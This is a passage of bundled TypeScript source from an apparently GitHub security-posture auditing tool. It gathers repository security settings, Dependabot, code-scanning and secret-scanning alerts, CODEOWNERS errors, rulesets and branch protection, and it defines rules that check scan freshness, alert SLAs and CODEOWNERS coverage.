// src/github/facts/security.ts
var ADMIN_READ = "Administration: read (repository admin; GITHUB_TOKEN cannot read security settings; pass admin-token)";
var securitySettingsFact = defineFact("github.security-settings", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  const sa = repository.value.security_and_analysis;
  if (!sa) {
    return unknownFact(
      "permission",
      `the security settings of ${repository.value.full_name} were not returned: GitHub shows security_and_analysis only to repository admins and security managers`,
      ADMIN_READ
    );
  }
  const status = (value) => value?.status === "enabled" || value?.status === "disabled" ? value.status : void 0;
  const settings = { visibility: repository.value.visibility ?? (repository.value.private ? "private" : "public") };
  const secretScanning2 = status(sa.secret_scanning);
  const pushProtection = status(sa.secret_scanning_push_protection);
  const updates = status(sa.dependabot_security_updates);
  const advanced = status(sa.advanced_security);
  if (secretScanning2) settings.secretScanning = secretScanning2;
  if (pushProtection) settings.pushProtection = pushProtection;
  if (updates) settings.dependabotSecurityUpdates = updates;
  if (advanced) settings.advancedSecurity = advanced;
  return known(settings);
});
var dependabotSecurityUpdatesFact = defineFact("github.dependabot-security-updates", async (ctx) => {
  const settings = await ctx.get(securitySettingsFact);
  if (settings.known && settings.value.dependabotSecurityUpdates === "disabled") return known({ enabled: false, paused: false });
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const data = (await client.octokit.request("GET /repos/{owner}/{repo}/automated-security-fixes", { owner, repo })).data;
      return { enabled: data.enabled, paused: data.paused };
    },
    {
      what: `Dependabot security updates of ${owner}/${repo}`,
      permission: ADMIN_READ,
      // 404 here means "not enabled" for an admin, and "not visible" for others: only the former is an answer.
      onNotFound: () => void 0
    }
  );
});
var privateVulnerabilityReportingFact = defineFact("github.private-vulnerability-reporting", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => ({ enabled: (await client.octokit.request("GET /repos/{owner}/{repo}/private-vulnerability-reporting", { owner, repo })).data.enabled }),
    {
      what: `private vulnerability reporting of ${owner}/${repo}`,
      permission: "Administration: read",
      ghesFeature: "private vulnerability reporting",
      // 422: the feature does not exist for this repository (GitHub offers it for public repositories).
      onStatus: (error) => error.status === 422 ? unknownFact("not-available", `private vulnerability reporting is not available for ${owner}/${repo} (GitHub answered 422: ${error.message.split("\n")[0]})`) : void 0
    }
  );
});
var DISABLED = /disabled|not enabled|must be enabled|no analysis found|advanced security/i;
function disabledAnswer(status) {
  return (error) => status.includes(error.status) && DISABLED.test(error.message) ? known({ enabled: false, alerts: [], disabledBecause: error.message.split("\n")[0] }) : void 0;
}
var dependabotAlertsFact = defineFact("github.dependabot-alerts", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/dependabot/alerts", { owner, repo, state: "open" });
      return {
        enabled: true,
        alerts: items2.map((item) => ({
          number: item.number,
          severity: item.security_vulnerability.severity,
          package: item.dependency.package?.name ?? "unknown package",
          ecosystem: item.dependency.package?.ecosystem ?? "",
          manifestPath: item.dependency.manifest_path ?? "",
          advisory: item.security_advisory.ghsa_id,
          createdAt: item.created_at,
          htmlUrl: item.html_url
        }))
      };
    },
    {
      what: `open Dependabot alerts of ${owner}/${repo}`,
      permission: 'vulnerability-alerts: read (GITHUB_TOKEN), or "Dependabot alerts: read" (fine-grained PAT / App)',
      onStatus: disabledAnswer([403, 404])
    }
  );
});
var RULE_SEVERITY = { error: "high", warning: "medium", note: "low" };
var codeScanningAlertsFact = defineFact("github.code-scanning-alerts", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/code-scanning/alerts", { owner, repo, state: "open", ref: `refs/heads/${branch.value}` });
      return {
        enabled: true,
        alerts: items2.map((item) => ({
          number: item.number,
          severity: item.rule.security_severity_level ?? RULE_SEVERITY[item.rule.severity ?? ""] ?? "low",
          rule: item.rule.id ?? item.rule.description ?? "unknown rule",
          tool: item.tool.name ?? "unknown tool",
          path: item.most_recent_instance?.location?.path ?? null,
          line: item.most_recent_instance?.location?.start_line ?? null,
          createdAt: item.created_at,
          htmlUrl: item.html_url
        }))
      };
    },
    { what: `open code scanning alerts of ${owner}/${repo}`, permission: "security-events: read", onStatus: disabledAnswer([403, 404]), ghesFeature: "code scanning" }
  );
});
var secretScanningAlertsFact = defineFact("github.secret-scanning-alerts", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(
        client,
        "GET /repos/{owner}/{repo}/secret-scanning/alerts",
        { owner, repo, state: "open", hide_secret: true }
      );
      return {
        enabled: true,
        alerts: items2.map((item) => ({
          number: item.number,
          secretType: item.secret_type_display_name ?? item.secret_type ?? "secret",
          createdAt: item.created_at,
          htmlUrl: item.html_url,
          ...item.validity ? { validity: item.validity } : {},
          ...typeof item.publicly_leaked === "boolean" ? { publiclyLeaked: item.publicly_leaked } : {}
        }))
      };
    },
    {
      what: `open secret scanning alerts of ${owner}/${repo}`,
      permission: '"Secret scanning alerts: read" (fine-grained PAT / GitHub App; the GITHUB_TOKEN cannot read them; pass admin-token)',
      onStatus: disabledAnswer([404]),
      ghesFeature: "secret scanning"
    }
  );
});
var codeScanningAnalysesFact = defineFact("github.code-scanning-analyses", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const response = await client.octokit.request("GET /repos/{owner}/{repo}/code-scanning/analyses", { owner, repo, ref: `refs/heads/${branch.value}`, per_page: 20 });
      const analyses = response.data.map((item) => ({
        createdAt: item.created_at,
        tool: item.tool.name ?? "unknown tool",
        category: item.category ?? "",
        ref: item.ref,
        error: item.error
      }));
      return { enabled: analyses.length > 0, analyses };
    },
    {
      what: `code scanning analyses of ${owner}/${repo}`,
      permission: "security-events: read",
      onStatus: (error) => (error.status === 404 || error.status === 403) && DISABLED.test(error.message) ? known({ enabled: false, analyses: [] }) : void 0,
      ghesFeature: "code scanning"
    }
  );
});

// src/rules/code/code-scanning.ts
var codeScanning = defineRule({
  meta: {
    id: "code-scanning",
    area: "code",
    severity: "medium",
    title: "Code scanning has not run recently on the default branch",
    rationale: "Static analysis that stopped running (a broken workflow, a disabled default setup) gives the impression of coverage without any.",
    remediation: "Enable CodeQL default setup (Settings > Code security) or a code scanning workflow on pushes to the default branch and a weekly schedule; include the `actions` language to scan workflows.",
    references: ["SSC-29", "SSC-31", "Scorecard: SAST", "OSPS-VM-06"],
    access: { token: "github-token", githubToken: ["security-events: read"], fineGrained: ["Code scanning alerts: read"], note: "Private repositories need GitHub Code Security / Advanced Security." }
  },
  needs: [codeScanningAnalysesFact, defaultBranchFact],
  defaultOptions: { maxAgeDays: 30 },
  strictOptions: { maxAgeDays: 8 },
  optionsSchema: { type: "object", properties: { maxAgeDays: { type: "integer", minimum: 1, description: "Newest analysis on the default branch must be at most this old." } } },
  evaluate(ctx) {
    const fact = ctx.need(codeScanningAnalysesFact);
    const branch = ctx.need(defaultBranchFact);
    const newest = fact.analyses[0];
    if (!fact.enabled || !newest) return [{ status: "fail", message: `no code scanning analysis found for ${branch}` }];
    const age = ageInDays(newest.createdAt, ctx.now) ?? Number.POSITIVE_INFINITY;
    const tools = [...new Set(fact.analyses.map((analysis) => analysis.tool))].join(", ");
    if (age > ctx.options.maxAgeDays) {
      return [{ status: "fail", message: `the newest code scanning analysis of ${branch} is ${age} days old (${newest.tool}, ${newest.createdAt}); the policy allows ${ctx.options.maxAgeDays}` }];
    }
    return [{ status: "pass", message: `code scanning ran on ${branch} ${age} day(s) ago (${tools})` }];
  }
});

// src/model/finding.ts
var SEVERITIES = ["critical", "high", "medium", "low", "info"];
var AREAS = ["accounts", "code", "build", "artifacts", "dependencies"];
function severityRank(severity) {
  return SEVERITIES.length - SEVERITIES.indexOf(severity);
}
function atLeast(severity, threshold) {
  return severityRank(severity) >= severityRank(threshold);
}

// src/rules/code/alert-sla.ts
var DEFAULT_SLA = { minSeverity: "high", slaDays: { critical: 7, high: 30, medium: 90, low: 180 } };
var SLA_OPTIONS_SCHEMA = {
  type: "object",
  properties: {
    minSeverity: { enum: ["critical", "high", "medium", "low"], description: "Lowest alert severity that counts." },
    slaDays: {
      type: "object",
      additionalProperties: false,
      properties: {
        critical: { type: "integer", minimum: 0 },
        high: { type: "integer", minimum: 0 },
        medium: { type: "integer", minimum: 0 },
        low: { type: "integer", minimum: 0 }
      },
      description: "Days an open alert of each severity is tolerated."
    }
  }
};
function alertSeverity(text) {
  const lower2 = text.toLowerCase();
  return lower2 === "critical" || lower2 === "high" || lower2 === "medium" || lower2 === "low" ? lower2 : lower2 === "moderate" ? "medium" : "low";
}
function overdue(severity, createdAt, now, options) {
  const age = ageInDays(createdAt, now) ?? 0;
  if (severity === "info" || !atLeast(severity, options.minSeverity)) return { overdue: false, age, sla: 0 };
  const sla = { ...DEFAULT_SLA.slaDays, ...options.slaDays }[severity];
  return { overdue: age > sla, age, sla };
}
function fileLocation(path6, line) {
  if (!path6) return void 0;
  const at = line && line > 0 ? line : 1;
  return { path: path6, startLine: at, startColumn: 1, endLine: at, endColumn: 1 };
}

// src/rules/code/code-scanning-alert-sla.ts
var codeScanningAlertSla = defineRule({
  meta: {
    id: "code-scanning-alert-sla",
    area: "code",
    severity: "high",
    title: "Code scanning alert open past its SLA",
    rationale: "A vulnerability found by static analysis and left open is a known, unfixed weakness on the default branch.",
    remediation: "Fix the code, or dismiss the alert with a reason (false positive, used in tests), or add a policy waiver for the file with an expiry date.",
    references: ["SSC-29", "SSC-30", "SSC-18", "OSPS-VM-05"],
    access: { token: "github-token", githubToken: ["security-events: read"], fineGrained: ["Code scanning alerts: read"], note: "Severity is the security severity (critical/high/medium/low); alerts without one map error/warning/note to high/medium/low." }
  },
  needs: [codeScanningAlertsFact],
  defaultOptions: DEFAULT_SLA,
  strictOptions: { minSeverity: "medium" },
  optionsSchema: SLA_OPTIONS_SCHEMA,
  evaluate(ctx) {
    const fact = ctx.need(codeScanningAlertsFact);
    if (!fact.enabled) return [{ status: "unknown", message: `code scanning is not set up, so open alerts cannot be checked (${fact.disabledBecause ?? ""})`.trim(), permission: "enable code scanning" }];
    const results = [];
    for (const alert of fact.alerts) {
      const severity = alertSeverity(alert.severity);
      const state = overdue(severity, alert.createdAt, ctx.now, ctx.options);
      if (!state.overdue) continue;
      const location = fileLocation(alert.path, alert.line);
      results.push({
        status: "fail",
        severity,
        message: `code scanning alert #${alert.number} (${severity}) ${alert.rule} from ${alert.tool} has been open ${state.age} days; SLA ${state.sla} days: ${alert.htmlUrl}`,
        ...location ? { location } : {}
      });
    }
    if (results.length === 0) return [{ status: "pass", message: `${fact.alerts.length} open code scanning alert(s), none ${ctx.options.minSeverity} or above past its SLA` }];
    return results;
  }
});

// src/github/facts/codeowners.ts
var CODEOWNERS_LOCATIONS = [".github/CODEOWNERS", "CODEOWNERS", "docs/CODEOWNERS"];
function parseCodeowners(text) {
  const lines2 = [];
  text.split(/\r?\n/).forEach((raw, index) => {
    const withoutComment = raw.replace(/(^|\s)#.*$/, "").trim();
    if (!withoutComment) return;
    const tokens = withoutComment.match(/(?:\\\s|\S)+/g) ?? [];
    const [pattern, ...owners] = tokens;
    if (!pattern) return;
    lines2.push({ pattern: pattern.replace(/\\(\s)/g, "$1"), owners, line: index + 1 });
  });
  return lines2;
}
function codeownersPatternMatches(pattern, path6) {
  let body = pattern;
  const directoryOnly = body.endsWith("/");
  if (directoryOnly) body = body.replace(/\/+$/, "");
  const anchored = body.startsWith("/") || body.includes("/");
  body = body.replace(/^\/+/, "");
  if (body === "" || body === "*" || body === "**") return true;
  const glob = anchored ? body : `**/${body}`;
  const options = { dot: true, nobrace: true, noext: true, nocomment: true, nonegate: true };
  if (directoryOnly) return minimatch(path6, `${glob}/**`, options);
  if (minimatch(path6, glob, options)) return true;
  if (body.endsWith("/*")) return false;
  return minimatch(path6, `${glob}/**`, options);
}
function ownersOf(lines2, path6) {
  for (let index = lines2.length - 1; index >= 0; index -= 1) {
    const line = lines2[index];
    if (codeownersPatternMatches(line.pattern, path6)) return { owners: line.owners, line };
  }
  return { owners: [], line: null };
}
var codeownersFileFact = defineFact("codeowners-file", async (ctx) => {
  const files = new Set(ctx.workspace.files());
  const path6 = CODEOWNERS_LOCATIONS.find((candidate) => files.has(candidate)) ?? null;
  if (!path6) return known({ path: null, lines: [] });
  const read = ctx.workspace.readText(path6);
  if (!read.ok) return unknownFact("api-error", `could not read ${path6}: ${read.reason}`);
  return known({ path: path6, lines: parseCodeowners(read.text) });
});
var codeownersErrorsFact = defineFact("github.codeowners-errors", async (ctx) => {
  if (!ctx.target) return noTarget();
  const file = await ctx.get(codeownersFileFact);
  if (file.known && !file.value.path) return unknownFact("not-applicable", "the checkout has no CODEOWNERS file");
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const data = (await client.octokit.request("GET /repos/{owner}/{repo}/codeowners/errors", { owner, repo })).data;
      return { found: true, errors: data.errors.map((error) => ({ line: error.line, column: error.column, kind: error.kind, message: error.message, path: error.path })) };
    },
    {
      what: `CODEOWNERS errors of ${owner}/${repo}`,
      permission: "Metadata: read",
      // GitHub answers 404 when the default branch has no CODEOWNERS file (the repository is visible: above).
      onNotFound: () => known({ found: false, errors: [] })
    }
  );
});

// src/github/facts/workspace-paths.ts
var CHAINGATE_USES = /(^|\/)chaingate(@|\/|$)/i;
function record(value) {
  return typeof value === "object" && value !== null && !Array.isArray(value) ? value : null;
}
function chaingateJobNames(workflow) {
  const jobs = record(record(workflow)?.jobs);
  if (!jobs) return [];
  const names = [];
  for (const [id, raw] of Object.entries(jobs)) {
    const job = record(raw);
    if (!job) continue;
    const steps = Array.isArray(job.steps) ? job.steps : [];
    const usesChaingate = typeof job.uses === "string" && CHAINGATE_USES.test(job.uses.split("@")[0].replace(/\.ya?ml$/, "").split("/").pop() ?? "") || steps.some((step) => {
      const uses = record(step)?.uses;
      return typeof uses === "string" && CHAINGATE_USES.test(uses);
    });
    if (!usesChaingate) continue;
    names.push(typeof job.name === "string" && !job.name.includes("${{") ? job.name : id);
  }
  return names;
}
var workflowPathsFact = defineFact("workspace.posture-paths", async (ctx) => {
  const files = ctx.workspace.files();
  const workflows = files.filter((file) => /^\.github\/workflows\/[^/]+\.ya?ml$/.test(file));
  const policy = DEFAULT_POLICY_PATHS.find((candidate) => files.includes(candidate)) ?? null;
  const chaingateJobs = [];
  for (const path6 of workflows) {
    const read = ctx.workspace.readText(path6);
    if (!read.ok || !/chaingate/i.test(read.text)) continue;
    const parsed = parseWorkflowText(path6, "workflow", read.text);
    if (parsed.ok) {
      for (const name of chaingateJobNames(parsed.file.value)) if (!chaingateJobs.includes(name)) chaingateJobs.push(name);
    }
  }
  return known({ workflows, policy, chaingateJobs });
});

// src/rules/code/codeowners.ts
var codeowners = defineRule({
  meta: {
    id: "codeowners",
    area: "code",
    severity: "medium",
    title: "CODEOWNERS missing, invalid or not covering workflows and policy",
    rationale: "Workflows hold the keys to releases and the policy decides what the gate accepts: a change to either should need its owners. GitHub silently ignores CODEOWNERS lines with errors.",
    remediation: "Add .github/CODEOWNERS with owners for `/.github/workflows/`, `/.github/actions/`, the policy file and CODEOWNERS itself, fix the errors GitHub lists, and require code-owner review.",
    references: ["SSC-39", "Secure use: CODEOWNERS for workflows", "CNCF SSCP: responsible individuals", "Allstar: CODEOWNERS"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Metadata: read", "Contents: read"], note: "Coverage is read from the checkout; syntax errors come from GitHub (default branch)." }
  },
  needs: [codeownersFileFact, workflowPathsFact],
  uses: [codeownersErrorsFact],
  defaultOptions: { paths: [] },
  strictOptions: { paths: ["action.yml", ".github/actions/example/action.yml"] },
  optionsSchema: { type: "object", properties: { paths: { type: "array", items: { type: "string" }, description: "More file paths that must have an owner." } } },
  evaluate(ctx) {
    const file = ctx.need(codeownersFileFact);
    const workflows = ctx.need(workflowPathsFact);
    if (!file.path) {
      return [{ status: "fail", message: `no CODEOWNERS file (${CODEOWNERS_LOCATIONS.join(", ")}): nobody is required to review changes to workflows or the policy` }];
    }
    const path6 = file.path;
    const results = [];
    const errors = ctx.fact(codeownersErrorsFact);
    if (!errors.known) {
      results.push({ status: "unknown", message: `GitHub's check of ${path6} could not be read: ${errors.reason}`, ...errors.permission ? { permission: errors.permission } : {} });
    } else if (!errors.value.found) {
      results.push({ status: "fail", message: `${path6} is in the checkout, but GitHub finds no CODEOWNERS file on the default branch` });
    } else {
      for (const error of errors.value.errors) {
        results.push({
          status: "fail",
          message: `${error.path}:${error.line}: ${error.kind}: ${error.message.split("\n")[0]}`,
          location: { path: error.path || path6, startLine: error.line, startColumn: error.column, endLine: error.line, endColumn: error.column }
        });
      }
    }
    const required = [.../* @__PURE__ */ new Set([...workflows.workflows, ".github/workflows/any-new-workflow.yml", workflows.policy ?? ".github/chaingate.yml", path6, ...ctx.options.paths])];
    const unowned = required.filter((candidate) => ownersOf(file.lines, candidate).owners.length === 0);
    if (unowned.length > 0) {
      results.push({
        status: "fail",
        message: `${path6} gives no owner to ${unowned.join(", ")}`,
        location: { path: path6, startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 }
      });
    }
    if (results.length === 0) return [{ status: "pass", message: `${path6} is valid and owns the workflows, the policy and itself` }];
    return results;
  }
});

// src/github/facts/effective-protection.ts
function emptySettings() {
  return {
    pullRequest: false,
    approvals: 0,
    dismissStale: false,
    lastPushApproval: false,
    codeOwnerReview: false,
    statusChecks: [],
    requiredWorkflows: [],
    strictStatusChecks: false,
    blocksForcePush: false,
    blocksDeletion: false,
    signedCommits: false,
    linearHistory: false,
    protections: [],
    sources: {}
  };
}
function note(settings, name, source) {
  const list = settings.sources[name] ??= [];
  if (!list.includes(source)) list.push(source);
}
function rulesetLabel(rule, rulesets = []) {
  const found = rulesets.find((ruleset) => ruleset.id === rule.ruleset_id);
  const name = found ? `ruleset "${found.name}"` : rule.ruleset_id !== void 0 ? `ruleset ${rule.ruleset_id}` : "a ruleset";
  const level = (rule.ruleset_source_type ?? found?.sourceType ?? "Repository").toLowerCase();
  const source = rule.ruleset_source ?? found?.source;
  return source ? `${name} (${level} ${source})` : name;
}
var PROTECTIVE_RULE_TYPES = /* @__PURE__ */ new Set([
  "pull_request",
  "non_fast_forward",
  "update",
  "required_status_checks",
  "required_signatures",
  "required_linear_history",
  "required_deployments",
  "merge_queue",
  "deletion",
  "creation"
]);
function settingsFromRules(rules, rulesets = []) {
  const settings = emptySettings();
  for (const raw of rules) {
    const source = rulesetLabel(raw, rulesets);
    const parameters = raw.parameters ?? {};
    if (PROTECTIVE_RULE_TYPES.has(raw.type) && !settings.protections.includes(raw.type)) settings.protections.push(raw.type);
    switch (raw.type) {
      case "pull_request": {
        settings.pullRequest = true;
        note(settings, "pullRequest", source);
        const approvals = Number(parameters.required_approving_review_count ?? 0);
        if (approvals > settings.approvals) {
          settings.approvals = approvals;
          settings.sources.approvals = [source];
        } else if (approvals === settings.approvals && approvals > 0) note(settings, "approvals", source);
        if (parameters.dismiss_stale_reviews_on_push === true) {
          settings.dismissStale = true;
          note(settings, "dismissStale", source);
        }
        if (parameters.require_last_push_approval === true) {
          settings.lastPushApproval = true;
          note(settings, "lastPushApproval", source);
        }
        if (parameters.require_code_owner_review === true) {
          settings.codeOwnerReview = true;
          note(settings, "codeOwnerReview", source);
        }
        break;
      }
      case "required_status_checks": {
        const checks = Array.isArray(parameters.required_status_checks) ? parameters.required_status_checks : [];
        for (const check of checks) {
          if (check.context && !settings.statusChecks.includes(check.context)) settings.statusChecks.push(check.context);
        }
        if (checks.length > 0) note(settings, "statusChecks", source);
        if (parameters.strict_required_status_checks_policy === true) {
          settings.strictStatusChecks = true;
          note(settings, "strictStatusChecks", source);
        }
        break;
      }
      case "workflows": {
        const workflows = Array.isArray(parameters.workflows) ? parameters.workflows : [];
        for (const workflow of workflows) {
          if (!workflow.path) continue;
          const id = `${workflow.repository_id ?? "?"}:${workflow.path}${workflow.ref ? `@${workflow.ref}` : ""}`;
          if (!settings.requiredWorkflows.includes(id)) settings.requiredWorkflows.push(id);
        }
        if (workflows.length > 0) note(settings, "requiredWorkflows", source);
        break;
      }
      case "non_fast_forward":
      case "update":
        settings.blocksForcePush = true;
        note(settings, "blocksForcePush", source);
        break;
      case "deletion":
        settings.blocksDeletion = true;
        note(settings, "blocksDeletion", source);
        break;
      case "required_signatures":
        settings.signedCommits = true;
        note(settings, "signedCommits", source);
        break;
      case "required_linear_history":
        settings.linearHistory = true;
        note(settings, "linearHistory", source);
        break;
      default:
        break;
    }
  }
  return settings;
}
function settingsFromClassic(protection) {
  const settings = emptySettings();
  if (!protection) return settings;
  const source = "classic branch protection";
  settings.protections.push("classic");
  const reviews = protection.required_pull_request_reviews;
  if (reviews) {
    settings.pullRequest = true;
    note(settings, "pullRequest", source);
    settings.approvals = reviews.required_approving_review_count ?? 0;
    if (settings.approvals > 0) note(settings, "approvals", source);
    if (reviews.dismiss_stale_reviews) {
      settings.dismissStale = true;
      note(settings, "dismissStale", source);
    }
    if (reviews.require_last_push_approval) {
      settings.lastPushApproval = true;
      note(settings, "lastPushApproval", source);
    }
    if (reviews.require_code_owner_reviews) {
      settings.codeOwnerReview = true;
      note(settings, "codeOwnerReview", source);
    }
  }
  const checks = protection.required_status_checks;
  if (checks) {
    const contexts = /* @__PURE__ */ new Set([...checks.contexts ?? [], ...(checks.checks ?? []).map((check) => check.context)]);
    settings.statusChecks = [...contexts];
    if (settings.statusChecks.length > 0) note(settings, "statusChecks", source);
    if (checks.strict) {
      settings.strictStatusChecks = true;
      note(settings, "strictStatusChecks", source);
    }
  }
  if (protection.allow_force_pushes?.enabled === false) {
    settings.blocksForcePush = true;
    note(settings, "blocksForcePush", source);
  }
  if (protection.allow_deletions?.enabled === false) {
    settings.blocksDeletion = true;
    note(settings, "blocksDeletion", source);
  }
  if (protection.required_signatures?.enabled === true) {
    settings.signedCommits = true;
    note(settings, "signedCommits", source);
  }
  if (protection.required_linear_history?.enabled === true) {
    settings.linearHistory = true;
    note(settings, "linearHistory", source);
  }
  return settings;
}
function mergeSettings(a, b) {
  const merged = emptySettings();
  const booleans = ["pullRequest", "dismissStale", "lastPushApproval", "codeOwnerReview", "strictStatusChecks", "blocksForcePush", "blocksDeletion", "signedCommits", "linearHistory"];
  for (const name of booleans) {
    merged[name] = a[name] || b[name];
    const sources = [...a[name] ? a.sources[name] ?? [] : [], ...b[name] ? b.sources[name] ?? [] : []];
    if (sources.length) merged.sources[name] = sources;
  }
  merged.approvals = Math.max(a.approvals, b.approvals);
  const approvalSources = [...a.approvals === merged.approvals ? a.sources.approvals ?? [] : [], ...b.approvals === merged.approvals ? b.sources.approvals ?? [] : []];
  if (approvalSources.length && merged.approvals > 0) merged.sources.approvals = approvalSources;
  merged.statusChecks = [.../* @__PURE__ */ new Set([...a.statusChecks, ...b.statusChecks])];
  merged.requiredWorkflows = [.../* @__PURE__ */ new Set([...a.requiredWorkflows, ...b.requiredWorkflows])];
  const workflowSources = [...a.sources.requiredWorkflows ?? [], ...b.sources.requiredWorkflows ?? []];
  if (workflowSources.length) merged.sources.requiredWorkflows = workflowSources;
  const checkSources = [...a.sources.statusChecks ?? [], ...b.sources.statusChecks ?? []];
  if (checkSources.length) merged.sources.statusChecks = checkSources;
  merged.protections = [.../* @__PURE__ */ new Set([...a.protections, ...b.protections])];
  return merged;
}
function judge(fromRules, classic, holds) {
  if (holds(fromRules)) {
    const settings = classic.known ? mergeSettings(fromRules, settingsFromClassic(classic.value.protection)) : fromRules;
    return { status: "pass", settings };
  }
  if (!classic.known) {
    return { status: "unknown", settings: fromRules, reason: classic.reason, permission: classic.permission ?? "Administration: read" };
  }
  const merged = mergeSettings(fromRules, settingsFromClassic(classic.value.protection));
  return holds(merged) ? { status: "pass", settings: merged } : { status: "fail", settings: merged };
}
function sourcesOf(settings, name) {
  const list = settings.sources[name] ?? [];
  return list.length ? list.join(", ") : "nothing";
}

// src/github/facts/branch-protection.ts
async function fetchBranchRules(client, owner, repo, branch) {
  return (await listAll(client, "GET /repos/{owner}/{repo}/rules/branches/{branch}", { owner, repo, branch })).items;
}
function readBranchRules(ctx, branch) {
  const { owner, repo } = ctx.target;
  return tieredFact(ctx, "github-token", async (client) => ({ branch, rules: await fetchBranchRules(client, owner, repo, branch) }), {
    what: `rules that apply to branch ${branch}`,
    permission: "Metadata: read",
    ghesFeature: "repository rules"
  });
}
var defaultBranchRulesFact = defineFact("github.default-branch-rules", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  return readBranchRules(ctx, branch.value);
});
function readClassic(ctx, branch) {
  const { owner, repo } = ctx.target;
  return tieredFact(ctx, "elevated", async (c) => (await c.octokit.rest.repos.getBranchProtection({ owner, repo, branch })).data, {
    what: `classic branch protection of ${branch}`,
    permission: "Administration: read",
    // 404 "Branch not protected" is an answer; a 404 for lack of access says "Not Found".
    onNotFound: (error) => /not protected/i.test(error.message) ? known(null) : void 0
  });
}
var defaultBranchClassicProtectionFact = defineFact("github.default-branch-classic-protection", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const classic = await readClassic(ctx, branch.value);
  return classic.known ? known({ branch: branch.value, protection: classic.value }) : classic;
});
var RELEASE_BRANCH_PATTERNS = ["release/**", "releases/**", "release-*", "v[0-9]*.x", "stable/**"];
var MAX_RELEASE_BRANCHES = 5;
var MAX_LISTED_BRANCHES = 500;
function isReleaseBranch(name, patterns = RELEASE_BRANCH_PATTERNS) {
  return patterns.some((pattern) => minimatch(name, pattern, { dot: true }));
}
var releaseBranchesFact = defineFact("github.release-branches", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2, truncated } = await listAll(client, "GET /repos/{owner}/{repo}/branches", { owner, repo }, MAX_LISTED_BRANCHES);
      const matching = items2.filter((item) => item.name !== branch.value && isReleaseBranch(item.name));
      const newest = [...matching].sort((a, b) => b.name.localeCompare(a.name, "en", { numeric: true })).slice(0, MAX_RELEASE_BRANCHES);
      const checked = await Promise.all(
        newest.map(async (item) => {
          const rules = await fetchBranchRules(client, owner, repo, item.name);
          if (rules.length > 0 || !item.protected) return { name: item.name, protectedFlag: item.protected, rules };
          return { name: item.name, protectedFlag: item.protected, rules, classic: await readClassic(ctx, item.name) };
        })
      );
      return { matching: matching.map((item) => item.name), truncated, checked };
    },
    { what: "release branches and their rules", permission: "Metadata: read", ghesFeature: "repository rules" }
  );
});

// src/github/facts/rulesets.ts
var MAX_RULESET_DETAILS = 12;
var rulesetsFact = defineFact("github.rulesets", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/rulesets", { owner, repo, includes_parents: true });
      const rulesets = await Promise.all(
        items2.map(async (listed, index) => {
          const base = {
            id: listed.id,
            name: listed.name,
            target: listed.target ?? "branch",
            sourceType: listed.source_type ?? "Repository",
            source: listed.source,
            enforcement: listed.enforcement,
            bypassActors: null,
            ...listed.current_user_can_bypass ? { currentUserCanBypass: listed.current_user_can_bypass } : {},
            refName: null,
            rules: null
          };
          if (listed.enforcement === "disabled" || base.target !== "branch" && base.target !== "tag") return base;
          if (index >= MAX_RULESET_DETAILS) return { ...base, detailsError: `details not read (more than ${MAX_RULESET_DETAILS} rulesets)` };
          try {
            const response = await client.octokit.request("GET /repos/{owner}/{repo}/rulesets/{ruleset_id}", { owner, repo, ruleset_id: listed.id, includes_parents: true });
            const detail = response.data;
            return {
              ...base,
              target: detail.target ?? base.target,
              enforcement: detail.enforcement,
              bypassActors: Array.isArray(detail.bypass_actors) ? detail.bypass_actors : null,
              refName: { include: detail.conditions?.ref_name?.include ?? [], exclude: detail.conditions?.ref_name?.exclude ?? [] },
              rules: detail.rules ?? []
            };
          } catch (error) {
            return { ...base, detailsError: `details could not be read: ${describeError(error)}` };
          }
        })
      );
      return { rulesets };
    },
    { what: "the rulesets of the repository and its organization", permission: "Metadata: read", ghesFeature: "repository rulesets" }
  );
});
function refMatches(refName, ref, defaultBranch) {
  const kind = ref.startsWith("refs/tags/") ? "tag" : "branch";
  const test = (pattern) => {
    if (pattern === "~ALL") return true;
    if (pattern === "~DEFAULT_BRANCH") return kind === "branch" && defaultBranch !== null && ref === `refs/heads/${defaultBranch}`;
    const full = pattern.startsWith("refs/") ? pattern : `refs/${kind === "tag" ? "tags" : "heads"}/${pattern}`;
    return minimatch(ref, full, { dot: true, nobrace: true, noext: true });
  };
  return refName.include.some(test) && !refName.exclude.some(test);
}

// src/rules/code/protection-support.ts
var BRANCH_FACTS = { needs: [defaultBranchRulesFact], uses: [defaultBranchClassicProtectionFact, rulesetsFact] };
var BRANCH_ACCESS_NOTE = "Rulesets (repository and organization) are read with the GITHUB_TOKEN; classic branch protection needs admin read (admin-token). Without it, a requirement the rulesets do not meet is unknown, never failed.";
function branchView(ctx) {
